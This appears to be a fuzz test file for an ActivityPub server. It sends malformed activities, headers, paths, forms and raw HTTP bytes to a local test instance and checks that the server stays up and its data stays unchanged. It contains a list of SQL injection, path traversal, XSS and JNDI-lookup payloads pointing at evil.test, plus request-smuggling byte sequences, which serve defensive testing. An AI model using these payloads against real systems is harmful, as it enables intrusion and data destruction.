import { once } from 'node:events'
import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import fc from 'fast-check'
import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { LocalAccount } from '../../src/domain/accounts/account.ts'
import { openSession } from '../../src/domain/accounts/session.ts'
import { publishPost } from '../../src/domain/posts/publish.ts'
import { type SignOptions, signed } from '../support/peer/signer.ts'
import type { Json, Person } from '../support/peer.ts'
import { type Ask, type Reply, startWhole, type Whole } from '../support/whole.ts'
import { ORIGIN, personHere } from '../support/world.ts'

/*
 * Whatever anybody sends: an answer below 500 within a second, and nothing changed where the answer is no. A
 * case that fails names its seed; WEFT_TEST_SEED repeats a run.
 */

const SEED = Number(process.env.WEFT_TEST_SEED ?? Date.now() % 2 ** 31)
const AT_ONCE = 8
const SLOWEST_MS = 1000
/** What a refused request may change: counters of the limiter, and nothing else. */
const COUNTERS = ['rate_limit']

let whole: Whole
let anna: LocalAccount
let alice: Person
let post: string
let cookie: string
let sent = 0

beforeAll(async () => {
  whole = await startWhole(['far.test', 'evil.test'])
  anna = await personHere(whole.world, 'anna')
  alice = await whole.peer.person('alice', { host: 'far.test' })
  post = await publishPost(whole.world, anna, { text: 'hello #tag', visibility: 'public' })
  cookie = `__Host-weft=${await openSession(whole.world, anna.id, undefined)}`
  // From then on she is known, and the last that was said of her is settled.
  const hello = await deliver(alice.follow(whole.world.uris.actor(anna.id)))
  expect(hello.status).toBe(202)
  await whole.settled()
}, 60_000)
afterAll(async () => {
  await whole?.[Symbol.asyncDispose]()
})

/** Numbers of rows and a hash over all that they hold, table by table. */
async function state(): Promise<Record<string, string>> {
  const tables = await sql<{ name: string }>`
    SELECT tablename AS name FROM pg_tables WHERE schemaname = 'public' ORDER BY 1`.execute(whole.db)
  const found: Record<string, string> = {}
  for (const { name } of tables.rows.filter((row) => !COUNTERS.includes(row.name))) {
    const { rows } = await sql<{ n: string; hash: string }>`
      SELECT count(*) AS n, md5(coalesce(string_agg(t::text, E'\n' ORDER BY t::text), '')) AS hash
      FROM ${sql.table(name)} AS t`.execute(whole.db)
    found[name] = `${rows[0]?.n} rows, ${rows[0]?.hash}`
  }
  return found
}

function deliver(
  activity: Json | string | Buffer,
  sign: SignOptions = {},
  path = '/ap/inbox',
): Promise<Reply> {
  const plain = typeof activity === 'string' || Buffer.isBuffer(activity)
  const body = Buffer.from(plain ? activity : JSON.stringify(activity))
  const url = ORIGIN + path
  const headers = { 'content-type': 'application/activity+json' }
  const outgoing = signed({ method: 'POST', url, headers, body }, alice.keys.rsa, sign)
  return ask(path, { method: 'POST', headers: outgoing.headers, body: outgoing.body ?? body })
}

async function ask(path: string, how: Ask = {}): Promise<Reply> {
  sent += 1
  let reply = await whole.ask(path, how)
  // Other work on the machine may hold one answer up; what the input itself makes slow is slow again.
  for (let again = 0; again < 3 && reply.ms >= SLOWEST_MS; again += 1) {
    await sleep(250)
    reply = await whole.ask(path, how)
  }
  const what = `seed ${SEED}: ${how.method ?? 'GET'} ${path.slice(0, 300)} ${JSON.stringify(how.headers ?? {}).slice(0, 500)}`
  expect(reply.status, what).toBeLessThan(500)
  expect(reply.status, what).toBeGreaterThanOrEqual(200)
  expect(reply.ms, what).toBeLessThan(SLOWEST_MS)
  // S-163: no answer shows what is inside.
  expect(reply.text, what).not.toMatch(/node_modules|\bat .+\.ts:\d+|syntax error at or near|PostgresError/)
  return reply
}

/**
 * Makes `count` cases, sends them a few at a time, and sends those that were refused once more, between two looks at
 * the database: it must be the same before and after.
 */
async function throwAt<Case>(
  cases: fc.Arbitrary<Case>,
  count: number,
  send: (one: Case) => Promise<Reply>,
): Promise<{ taken: number; refused: number }> {
  const all = fc.sample(cases, { numRuns: count, seed: SEED })
  const refused: Case[] = []
  const answers = new Map<Case, string>()
  await inTurns(all, async (one) => {
    const { status, text } = await send(one)
    if (status < 400) return
    refused.push(one)
    answers.set(one, `${status} ${text}`)
  })
  await whole.settled()
  const before = await state()
  await inTurns(refused, async (one) => {
    expect(
      (await send(one)).status,
      `seed ${SEED}: ${answers.get(one)} ${JSON.stringify(one)}`,
    ).toBeGreaterThanOrEqual(400)
  })
  await whole.settled()
  expect(await state()).toEqual(before)
  expect((await whole.ask('/livez')).status).toBe(200)
  expect(whole.errors).toEqual([])
  return { taken: all.length - refused.length, refused: refused.length }
}

async function inTurns<Case>(cases: readonly Case[], work: (one: Case) => Promise<void>): Promise<void> {
  const left = [...cases]
  const hands = Array.from({ length: AT_ONCE }, async () => {
    for (let one = left.shift(); one !== undefined; one = left.shift()) await work(one)
  })
  const results = await Promise.allSettled(hands)
  for (const result of results) if (result.status === 'rejected') throw result.reason
}

/** S-150 and its kin: what somebody types who wants to know how the server is made. */
const attacks = [
  "' OR '1'='1",
  "'; DROP TABLE post; --",
  '1; SELECT pg_sleep(5)',
  "1' AND pg_sleep(5)::text = '",
  '\\',
  '%',
  '_%',
  "\\'; --",
  '$1',
  '$$; SELECT 1; $$',
  "x'::regclass",
  "E'\\\\x00'",
  'a & !b | (c <-> d):*',
  '{"$ne": null}',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%2e%2e%2f',
  '%c0%ae%c0%ae%2f',
  '%00',
  '%0d%0aSet-Cookie:%20a=b',
  '%ed%a0%80',
  '%ff%fe',
  '<script>alert(1)</script>',
  '"><svg onload=alert(1)>',
  '{{7*7}}',
  // What a shell or a template would fill in, not JavaScript.
  '$' + '{jndi:ldap://evil.test/a}',
  '//evil.test',
  '/\\evil.test',
  'https://evil.test/',
  'javascript:alert(1)',
  '__proto__',
  'constructor',
  'toString',
  'NaN',
  '-1',
  '0',
  '00',
  '1e3',
  '0x10',
  '9223372036854775807',
  '9223372036854775808',
  '99999999999999999999999',
  '١٢٣',
  '‮name',
  'İstanbul',
  '👩‍👩‍👧‍👦'.repeat(20),
  'a'.repeat(3000),
  '[]',
  '',
] as const

const word = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...attacks) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
)

/** As it may stand in a request line: printable, or escaped. */
const inPath = fc
  .tuple(word, fc.boolean())
  .map(([text, raw]) => (raw ? text.replace(/[^!-~]|[#?]/gu, (sign) => escaped(sign)) : escaped(text)))
const escaped = (text: string) => encodeURIComponent(text.toWellFormed())

const value: fc.Arbitrary<unknown> = fc.oneof(
  word,
  fc.constantFrom<unknown>(
    null,
    true,
    0,
    -1,
    1e308,
    2 ** 53,
    [],
    {},
    [[]],
    [null],
    [[['x']]],
    '\0',
    'a\0b',
    '\ud800',
    '\udc00x',
    'x'.repeat(100_000),
    '9999999-01-01T00:00:00Z',
    '-271821-04-20T00:00:00Z',
    '2026-13-45T99:99:99Z',
    '0000-00-00',
    'https://[::1/',
    'https://far.test:99999/',
    'https://far.test/\u0000',
    'https://FAR.test./users/alice',
    'http://far.test/users/alice',
    `${ORIGIN}/ap/actors/1`,
    `${ORIGIN}/`,
    'as:Public',
    'https://www.w3.org/ns/activitystreams#Public',
    { id: 'https://far.test/x', type: ['Note', 'Person'] },
    { '@value': 'x', '@language': 'x-@@' },
    { '@id': 'https://evil.test/', '@reverse': { object: 'x' } },
    { '@graph': [{ id: 'https://evil.test/' }] },
    { type: 'Link', href: { href: { href: 'x' } } },
    { toString: 1, valueOf: null, hasOwnProperty: 0 },
    { 'x-@@': 'language', __proto: 1, '': '' },
    Array.from({ length: 300 }, (_, n) => `https://far.test/users/${n}`),
    nested(31),
    nested(500),
  ),
)

function nested(depth: number): unknown {
  let inner: unknown = 'x'
  for (let level = 0; level < depth; level += 1) inner = level % 2 ? [inner] : { object: inner }
  return inner
}

interface Change {
  readonly at: number
  readonly how: 'set' | 'drop' | 'list' | 'unlist' | 'wrap' | 'add' | 'proto' | 'reverse'
  readonly name: string
  readonly value: unknown
}
const change: fc.Arbitrary<Change> = fc.record({
  at: fc.nat(1000),
  how: fc.constantFrom('set', 'set', 'set', 'drop', 'list', 'unlist', 'wrap', 'add', 'proto', 'reverse'),
  name: fc.constantFrom(
    ...['@context', '@graph', '@type', '@id', 'type', 'id', 'actor', 'to', 'cc', 'object', 'contentMap'],
    ...['summaryMap', 'nameMap', 'tag', 'inReplyTo', 'updated', 'published', 'url', 'source', 'preview'],
    ...[
      'attributedTo',
      'quoteUrl',
      'replies',
      'duration',
      'icon',
      'mediaType',
      'oneOf',
      'signature',
      'proof',
    ],
  ),
  value,
})

type Holder = Record<string, unknown> | unknown[]

/** Every place in a document, as holder and key. */
function placesIn(holder: Holder, found: [Holder, string][] = []): [Holder, string][] {
  for (const key of Object.keys(holder)) {
    found.push([holder, key])
    const inner = (holder as Record<string, unknown>)[key]
    if (typeof inner === 'object' && inner !== null) placesIn(inner as Holder, found)
  }
  return found
}

function changed(document: Json, changes: readonly Change[]): string {
  const copy = structuredClone(document)
  for (const { at, how, name, value: shared } of changes) {
    const value = structuredClone(shared)
    const places = placesIn(copy)
    const [holder, key] = places[at % Math.max(places.length, 1)] ?? [copy, 'type']
    const target = holder as Record<string, unknown>
    if (how === 'set') target[key] = value
    if (how === 'drop') delete target[key]
    if (how === 'list') target[key] = [target[key], value]
    if (how === 'unlist' && Array.isArray(target[key])) target[key] = target[key][0]
    if (how === 'wrap') target[key] = { type: 'Object', [key]: target[key] }
    if (how === 'add') target[name] = value
    if (how === 'proto') target.PROTO = { admin: true, type: 'Create' }
  }
  const last = changes.at(-1)
  const order = last?.how === 'reverse' ? Object.fromEntries(Object.entries(copy).reverse()) : copy
  const text = JSON.stringify(order).replaceAll('"PROTO"', '"__proto__"')
  // The same name twice: who reads the first and who reads the last must not be told different things.
  return last?.how === 'add' && !Array.isArray(last.value)
    ? text.replace(/\}$/, `,${JSON.stringify(last.name)}:${JSON.stringify(last.value)}}`)
    : text
}

/** One of each kind that servers send, all of them fine as they are. */
function fineOnes(): Json[] {
  const note = alice.note('hello <a href="https://far.test/tags/x">#x</a>', {
    tag: [
      { type: 'Hashtag', name: '#x', href: 'https://far.test/tags/x' },
      { type: 'Mention', name: '@anna@weft.test', href: whole.world.uris.actor(anna.id) },
    ],
    attachment: [{ type: 'Document', mediaType: 'image/png', url: 'https://far.test/x.png', name: 'x' }],
    contentMap: { en: '<p>hello</p>' },
    source: { content: 'hello', mediaType: 'text/plain' },
    inReplyTo: whole.world.uris.post(post as never),
    updated: new Date().toISOString(),
    summary: 'x',
    sensitive: true,
    replies: { type: 'Collection', first: { type: 'CollectionPage', items: [] } },
  })
  const follow = alice.follow(whole.world.uris.actor(anna.id))
  return [
    alice.create(note),
    alice.create({
      ...note,
      type: 'Question',
      oneOf: [{ type: 'Note', name: 'a' }],
      endTime: '2030-01-01T00:00:00Z',
    }),
    alice.update(note),
    alice.update(alice.actor),
    alice.delete(String(note.id)),
    follow,
    alice.undo(follow),
    alice.accept({ ...follow, actor: whole.world.uris.actor(anna.id), object: alice.uri }),
    alice.reject(follow),
    alice.activity('Announce', whole.world.uris.post(post as never)),
    alice.activity('Like', whole.world.uris.post(post as never)),
    alice.activity('Flag', [whole.world.uris.actor(anna.id)]),
    alice.activity('Move', alice.uri, { target: 'https://evil.test/users/alice' }),
    alice.activity('Add', note.id, { target: `${alice.uri}/featured` }),
  ]
}

describe('S-006, S-026, S-027: activities', () => {
  test('spoilt in every way, but well signed', async () => {
    const cases = fc.record({ kind: fc.nat(100), changes: fc.array(change, { minLength: 1, maxLength: 4 }) })
    const { taken, refused } = await throwAt(cases, 450, ({ kind, changes }) => {
      const fine = fineOnes()
      return deliver(changed(fine[kind % fine.length] ?? {}, changes))
    })
    expect(taken).toBeGreaterThan(50)
    expect(refused).toBeGreaterThan(50)
    // Nothing that was taken made a worker stumble.
    const dead = await whole.db.selectFrom('dead_job').selectAll().execute()
    expect(dead).toEqual([])
    for (const table of ['lane_job', 'job'] as const) {
      const waiting = await whole.db.selectFrom(table).select(['payload', 'attempts']).execute()
      expect(waiting.filter((row) => row.attempts > 0)).toEqual([])
    }
    const pages = ['/', '/@anna', '/tags/x', `/@anna/${post}`, `/ap/posts/${post}/replies?cursor=first`]
    for (const path of pages) expect((await ask(path)).status, path).toBe(200)
  }, 60_000)

  test('that are no JSON, or no whole one', async () => {
    const bytes = fc.oneof(
      fc.uint8Array({ maxLength: 300 }).map((array) => Buffer.from(array)),
      fc.string({ unit: 'binary', maxLength: 200 }).map((text) => Buffer.from(text)),
      fc.json({ maxDepth: 6 }).map((text) => Buffer.from(text)),
      fc
        .constantFrom(
          '',
          '{',
          '[]',
          'null',
          '7',
          '"x"',
          '\ufeff{}',
          '{"a":1}{"b":2}',
          '[[[',
          '{"type":"Create"}',
        )
        .map((text) => Buffer.from(text)),
      fc.nat(2000).map((at) => {
        const whole = Buffer.from(JSON.stringify(fineOnes()[0]))
        return whole.subarray(0, at % whole.length)
      }),
      fc.nat(2000).map((at) => {
        const whole = Buffer.from(JSON.stringify(fineOnes()[0]))
        whole[at % whole.length] = 0xff
        return whole
      }),
    )
    const { taken } = await throwAt(bytes, 150, (body) => deliver(body))
    expect(taken).toBeLessThan(10)
  }, 30_000)
})

describe('headers', () => {
  const name = fc.constantFrom(
    ...['date', 'digest', 'content-digest', 'signature', 'signature-input', 'content-type', 'host', 'accept'],
    ...['cookie', 'authorization', 'x-forwarded-for', 'x-forwarded-host', 'x-forwarded-proto', 'forwarded'],
    ...[
      'content-encoding',
      'if-none-match',
      'range',
      'origin',
      'sec-fetch-site',
      'user-agent',
      'content-length-x',
    ],
  )
  const headerValue = fc.oneof(
    word,
    fc.constantFrom(
      ...[
        'keyId="',
        'keyId="https://far.test/users/alice#main-key"',
        'sig1=("@method")',
        'sig1=:AAAA:',
        ',,,,',
        '=:=:',
      ],
      ...[
        'keyId="https://far.test/users/alice#main-key",headers="",signature="AAAA"',
        'sig1=();created=-1;keyid=1',
      ],
      ...[
        'SHA-256=',
        'sha-256=:@@@:',
        'sha-512=::',
        '*/*;q=🐈',
        'text/html;q=1e999',
        'application/activity+json;q=-1',
      ],
      ...[
        'Thu, 01 Jan 1970 00:00:00 GMT',
        'Mon, 99 Foo 99999',
        '__proto__=x; weft=%',
        'weft=a; weft=b',
        '"',
        'null',
      ],
      'a,'.repeat(1500),
    ),
  )
  const wire = (text: string) => text.replace(/[^\t\x20-\x7e\x80-\xff]/g, '~').slice(0, 4000)
  const some = fc.dictionary(name, headerValue.map(wire), { minKeys: 1, maxKeys: 3 })

  test('of a signed activity, changed after it was signed', async () => {
    const cases = fc.record({ alter: some, scheme: fc.constantFrom('cavage' as const, 'rfc9421' as const) })
    await throwAt(cases, 200, ({ alter, scheme }) => {
      const { host: _host, ...rest } = alter
      return deliver(alice.activity('View', `${ORIGIN}/`), { scheme, alter: rest })
    })
  }, 30_000)

  test('of everything that can be read', async () => {
    const path = fc.constantFrom(
      ...[
        '/',
        '/@anna',
        '/tags/tag',
        '/ap/actors/instance',
        '/nodeinfo/2.1',
        '/.well-known/host-meta',
        '/accounts',
      ],
      '/.well-known/webfinger?resource=acct:anna@weft.test',
    )
    await throwAt(fc.record({ path, headers: some }), 200, ({ path, headers }) => ask(path, { headers }))
  }, 30_000)
})

describe('S-150, S-151, S-152: addresses', () => {
  test('paths and queries, cursors, WebFinger', async () => {
    const place = fc.constantFrom(
      ...[
        '/@*',
        '/@anna/*',
        '/@anna?before=*',
        '/tags/*',
        '/?before=*',
        '/*',
        '/ap/posts/*',
        '/ap/activities/*',
      ],
      ...[
        '/ap/actors/*',
        '/ap/actors/*/outbox',
        '/ap/posts/*/replies?cursor=*',
        '/.well-known/*',
        '/nodeinfo/*',
      ],
      ...[
        '/.well-known/webfinger?resource=*',
        '/.well-known/webfinger?resource=acct:*@weft.test',
        '/assets/*',
      ],
      ...[
        '/.well-known/webfinger?resource=https://weft.test/*',
        '/.well-known/webfinger?*=*&resource=*',
        '/?*=*',
      ],
      ...['/setup?token=*', '/accounts?before=*', '/authorize_interaction?uri=*', '/sign-in?*', '/avatars/*'],
      ...[
        '/ap/actors/ANNA/outbox?cursor=*',
        '/ap/actors/ANNA/followers?cursor=*',
        '/ap/posts/POST/context?cursor=*',
      ],
      ...[
        '/ap/posts/POST/replies?cursor=*&cursor=*',
        '//*',
        '/*/*/*',
        '/%2e%2e/*',
        '/ap/inbox/*',
        '/@anna/POST?*',
      ],
    )
    const cases = fc.record({
      place,
      first: inPath,
      second: inPath,
      accept: fc.constantFrom('text/html', 'application/activity+json', '*/*'),
      method: fc.constantFrom(
        'GET',
        'GET',
        'GET',
        'HEAD',
        'OPTIONS',
        'POST',
        'PUT',
        'DELETE',
        'TRACE',
        'PROPFIND',
      ),
      signedIn: fc.boolean(),
    })
    const { refused } = await throwAt(
      cases,
      500,
      async ({ place, first, second, accept, method, signedIn }) => {
        const path = place
          .replace('*', () => first)
          .replaceAll('*', () => second)
          .replace('ANNA', anna.id)
          .replace('POST', post)
        const reply = await ask(path, { method, headers: { accept, ...(signedIn && { cookie }) } })
        // No open redirect: it only ever leads to us.
        const { location } = reply.headers
        if (location !== undefined) expect(location, path).toMatch(/^\/(?![/\\])/)
        return reply
      },
    )
    expect(refused).toBeGreaterThan(200)
  }, 60_000)

  test.each([
    ['4 KB', `/?x=${'y'.repeat(4200)}`],
    ['100 keys', `/?${'a=b&'.repeat(120)}`],
    ['brackets', '/?a[b][c][d][e][f]=1'],
    ['a whole address', 'http://evil.test/ap/actors/instance'],
    ['another port', 'http://weft.test:1/@anna'],
    ['nothing but dots', '/../../..'],
  ])('with %s', async (_what, path) => {
    await ask(path)
    await ask(path, { headers: { accept: 'application/activity+json' } })
    await ask(path, { method: 'POST' })
  })

  test('an inbox named by a whole address takes nothing that was not signed for it', async () => {
    const activity = JSON.stringify(alice.activity('View', `${ORIGIN}/`))
    const url = `${ORIGIN}/ap/inbox`
    const headers = { 'content-type': 'application/activity+json' }
    const outgoing = signed({ method: 'POST', url, headers, body: Buffer.from(activity) }, alice.keys.rsa)
    const before = await state()
    const how = { method: 'POST', headers: outgoing.headers, body: activity }
    expect((await ask('http://evil.test/ap/inbox', how)).status).toBeGreaterThanOrEqual(400)
    expect(await state()).toEqual(before)
  })
})

describe('forms', () => {
  const FORM = 'application/x-www-form-urlencoded'
  const fields = fc.dictionary(
    fc.constantFrom('csrf', 'login', 'password', 'current', 'next', 'token', 'name', '__proto__', 'a[b]'),
    word.filter((text) => text.isWellFormed()),
    { maxKeys: 5 },
  )
  const route = fc.constantFrom(
    '/sign-in',
    '/sign-out',
    '/sign-out/everywhere',
    '/setup',
    '/accounts/password',
  )

  test('that did not come from our own page, or are none', async () => {
    const type = fc.constantFrom(
      FORM,
      FORM,
      'application/json',
      'multipart/form-data; boundary=x',
      'text/plain',
      '',
    )
    const cases = fc.record({ route, type, fields, signedIn: fc.boolean() })
    const { taken } = await throwAt(cases, 120, ({ route, type, fields, signedIn }) => {
      const headers = { 'content-type': type, accept: 'text/html', ...(signedIn && { cookie }) }
      return ask(route, { method: 'POST', headers, body: new URLSearchParams(fields).toString() })
    })
    expect(taken).toBe(0)
  }, 30_000)

  test('from our own page, filled in with anything', async () => {
    const page = await ask('/sign-in', { headers: { accept: 'text/html' } })
    const token = /name="csrf" value="([^"]+)"/.exec(page.text)?.[1] ?? ''
    const visitor = String(page.headers['set-cookie']).split(';')[0] ?? ''
    const cases = fc.sample(fc.record({ route, fields }), { numRuns: 60, seed: SEED })
    const before = await state()
    for (const { route, fields } of cases) {
      const body = new URLSearchParams({ ...fields, csrf: token }).toString()
      const headers = { 'content-type': FORM, accept: 'text/html', cookie: visitor }
      const { status } = await ask(route, { method: 'POST', headers, body })
      if (route !== '/sign-out') expect(status, `${route} ${body}`).toBeGreaterThanOrEqual(400)
    }
    expect(await state()).toEqual(before)
  }, 30_000)
})

describe('S-153: bytes that are no request', () => {
  const head = 'Host: weft.test\r\n'
  test.each([
    ['two lengths', `POST /ap/inbox HTTP/1.1\r\n${head}Content-Length: 4\r\nContent-Length: 5\r\n\r\nabcde`],
    [
      'length and chunks',
      `POST /ap/inbox HTTP/1.1\r\n${head}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\n\r\n`,
    ],
    ['two hosts', `GET /@anna HTTP/1.1\r\n${head}Host: evil.test\r\n\r\n`],
    ['a folded header', `GET /@anna HTTP/1.1\r\n${head}X-A: b\r\n c\r\n\r\n`],
    [
      'a chunk of a wrong size',
      `POST /sign-in HTTP/1.1\r\n${head}Transfer-Encoding: chunked\r\n\r\nZZ\r\n\r\n`,
    ],
    ['CONNECT', `CONNECT evil.test:443 HTTP/1.1\r\n${head}\r\n`],
    ['an upgrade', `GET / HTTP/1.1\r\n${head}Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n`],
    ['TLS', '\u0016\u0003\u0001\u0002\u0000\u0001\u0000'],
  ])('%s', async (_what, bytes) => {
    const socket = connect(whole.port, '127.0.0.1')
    await once(socket, 'connect')
    let text = ''
    socket.on('data', (chunk) => {
      text += chunk
    })
    socket.on('error', () => undefined)
    socket.end(Buffer.from(bytes, 'latin1'))
    await once(socket, 'close')
    expect(text).not.toMatch(/^HTTP\/1\.1 5/)
    expect(text).not.toMatch(/smuggled/)
    expect((text.match(/^HTTP\/1\.1 /gm) ?? []).length).toBeLessThanOrEqual(1)
    expect((await whole.ask('/livez')).status).toBe(200)
  })
})

test('that was enough, and the database stands', async () => {
  expect(sent).toBeGreaterThan(1500)
  const { rows } = await sql<{ n: number }>`SELECT count(*)::int AS n FROM post WHERE local`.execute(whole.db)
  expect(rows[0]?.n).toBe(1)
  expect(whole.errors).toEqual([])
})
